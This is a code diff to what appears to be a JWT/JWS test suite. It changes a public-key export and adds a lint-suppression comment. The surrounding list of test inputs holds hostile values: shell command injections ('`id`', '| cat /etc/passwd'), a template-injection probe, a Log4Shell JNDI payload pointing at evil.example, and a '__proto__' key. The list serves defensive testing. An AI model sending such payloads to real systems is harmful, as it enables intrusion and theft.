@@ -38,7 +38,7 @@ import {
 /** A public key in every spelling that somebody could have taken for a secret. */
 function publicTexts(jwk) {
   const key = publicKey(jwk);
-  const spki = key.export({ type: 'spki', format: 'pem' });
+  const spki = String(key.export({ type: 'spki', format: 'pem' }));
   const texts = {
     'as PEM': spki,
     'as PEM without its last newline': spki.trimEnd(),
@@ -353,6 +353,7 @@ export function* section3_10({ claims, hs, rs, es, ed }) {
     '`id`',
     '| cat /etc/passwd',
     '{{7*7}}',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker would send
     '${jndi:ldap://evil.example/x}',
     'https://evil.example/key',
     '__proto__',
